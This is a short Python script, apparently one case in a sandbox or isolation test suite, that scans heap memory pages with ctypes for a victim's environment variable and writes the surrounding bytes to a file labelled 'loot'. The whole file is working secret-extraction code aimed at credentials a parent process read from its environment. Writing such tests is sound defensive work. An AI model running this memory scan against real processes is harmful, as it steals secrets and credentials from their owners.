# kind: secrets
# tries: The heap, for what the parent once read from its environment
# control: none

import ctypes
import os

name = VICTIM["env"].encode() + b"="
here = id(object()) & ~4095
out = open(os.environ["OUTPUT_FILE_PATH"], "wb", buffering=0)
out.write(b"loot\n")
for direction in (-1, 1):
    for n in range(20_000):
        page = ctypes.string_at(here + direction * n * 4096, 4096)
        at = page.find(name)
        if at >= 0:
            out.write(page[at : at + 100] + b"\n")
